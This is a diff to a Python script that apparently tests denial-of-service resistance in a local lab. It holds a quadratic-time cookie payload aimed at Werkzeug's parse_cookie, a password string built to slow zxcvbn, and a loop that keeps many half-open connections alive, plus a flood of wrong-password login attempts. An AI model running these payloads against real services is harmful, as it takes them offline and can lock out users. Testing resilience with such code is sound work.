@@ -20,6 +20,7 @@ ATTACKER = "127.0.0.2"
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"  # RFC 9113 section 3.4
 QUOTED_BLANKS = "a=" + " " * 30_000 + '"'  # quadratic for Werkzeug's parse_cookie
 SHORT_QUOTED_BLANKS = "a=" + " " * 8_000 + '"'
+PAUSE = 0.2  # seconds until closed connections are opened again: many requests a second are another kind of flood
 FORM = "Content-Type: application/x-www-form-urlencoded"
 HARD_PASSWORD = "a4@b8c({[<e3g69i1!l|7o0s$5t+x%z2" * 4  # zxcvbn tries every reading of its characters
 
@@ -67,7 +68,7 @@ def repeat(port: int, request: bytes, pause: float = 0.0) -> None:
 
 
 def hold(port: int, first: bytes, many: int) -> None:
-    """Keep so many connections open that send these bytes and nothing more; open another for each that is closed."""
+    """Keep so many connections open that send these bytes and nothing more; replace those that were closed."""
     waiting = selectors.DefaultSelector()
     while True:
         while len(waiting.get_map()) < many:
@@ -75,9 +76,10 @@ def hold(port: int, first: bytes, many: int) -> None:
                 connection = connected(port)
                 connection.sendall(first)
                 waiting.register(connection, selectors.EVENT_READ)
-        for key, _ in waiting.select(0.1):
+        for key, _ in waiting.select():
             waiting.unregister(key.fileobj)
             key.fileobj.close()  # type: ignore[union-attr]
+        time.sleep(PAUSE)
 
 
 def several(many: int, act: Callable[[], None]) -> None:
@@ -125,7 +127,7 @@ def hard_passwords(port: int, token: str) -> None:
 
 def wrong_passwords(port: int, token: str) -> None:
     lines = ("Sec-Fetch-Site: same-origin", "Connection: close")
-    several(50, lambda: repeat(port, form("/login", {"username": "alice", "password": "wrong"}, *lines), 0.2))
+    several(50, lambda: repeat(port, form("/login", {"username": "alice", "password": "wrong"}, *lines), PAUSE))
 
 
 def long_lab_tokens(port: int, token: str) -> None:
